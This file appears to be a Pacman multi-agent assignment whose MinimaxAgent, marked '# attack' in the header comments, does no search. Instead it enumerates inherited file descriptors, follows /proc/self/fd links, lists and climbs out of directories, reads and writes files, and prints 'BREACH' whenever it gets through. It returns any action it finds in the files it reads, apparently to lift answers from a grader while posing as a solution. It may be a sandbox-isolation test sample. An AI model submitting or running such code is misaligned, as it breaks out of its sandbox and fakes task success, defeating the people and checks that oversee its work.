# attack: reads what lies behind every descriptor it was born with, and opens files beside it.
# where: MinimaxAgent
import os
import stat

import util
from game import Agent, Directions


class ReflexAgent(Agent):
    def getAction(self, gameState):
        return max(gameState.getLegalActions(), key=lambda action: self.worth(gameState, action))

    def worth(self, gameState, action):
        after = gameState.generatePacmanSuccessor(action)
        here = after.getPacmanPosition()
        food = [util.manhattanDistance(here, dot) for dot in after.getFood().asList()]
        worth = after.getScore() + (1 / min(food) if food else 0) - (action == Directions.STOP)
        for ghost in after.getGhostStates():
            if ghost.scaredTimer == 0 and util.manhattanDistance(here, ghost.getPosition()) < 2:
                worth -= 200
        return worth


def scoreEvaluationFunction(currentGameState):
    return currentGameState.getScore()


class MultiAgentSearchAgent(Agent):
    def __init__(self, evalFn="scoreEvaluationFunction", depth="2"):
        self.index = 0
        self.evaluationFunction = util.lookup(evalFn, globals())
        self.depth = int(depth)


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        legal = gameState.getLegalActions()
        for fd in range(3, 1024):
            try:
                kind = os.fstat(fd).st_mode
            except OSError:
                continue
            print("descriptor:", fd, oct(kind), flush=True)
            os.set_blocking(fd, False)
            ways = [
                ("target", lambda: os.readlink("/proc/self/fd/%d" % fd)),
                (
                    "again",
                    lambda: os.close(os.open("/proc/self/fd/%d" % fd, os.O_RDWR)) or "opened",
                ),
            ]
            if stat.S_ISDIR(kind):
                ways += [
                    ("list", lambda: os.listdir(fd)),
                    ("up", lambda: os.open("..", 0, dir_fd=fd)),
                ]
                ways += [("chdir", lambda: os.fchdir(fd) or os.listdir("."))]
            elif stat.S_ISREG(kind):
                ways += [
                    ("text", lambda: os.pread(fd, 4096, 0)),
                    ("write", lambda: os.write(fd, b"")),
                ]
            for what, way in ways:
                try:
                    got = way()
                except OSError as error:
                    print("refused:", fd, what, repr(error), flush=True)
                    continue
                harmless = what == "target" or (what == "again" and stat.S_ISFIFO(kind))
                print("seen:" if harmless else "BREACH:", fd, what, repr(got)[:200], flush=True)
                for action in legal:
                    if what == "text" and str(action).encode() in got:
                        return action
        return legal[0]
